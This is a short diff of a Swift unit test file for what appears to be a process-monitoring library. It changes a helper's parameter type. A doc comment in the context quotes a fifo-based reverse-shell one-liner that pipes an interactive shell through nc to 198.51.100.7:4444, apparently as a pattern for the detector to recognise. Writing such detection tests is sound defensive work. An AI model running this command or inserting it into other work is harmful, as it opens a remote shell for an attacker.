@@ -7,7 +7,7 @@ import XCTest
 @testable import RuntimeWatchCore
 
 final class StateInodeTests: XCTestCase {
-    func pids(_ records: [ProcessRecord]) -> [Int32] { records.map(\.pid.rawValue) }
+    func pids(_ records: some Sequence<ProcessRecord>) -> [Int32] { records.map(\.pid.rawValue) }
 
     /// `mkfifo f; sh -i < f 2>&1 | nc 198.51.100.7 4444 > f`: sh reads the fifo and writes the
     /// pipe; nc reads the pipe and writes the fifo.
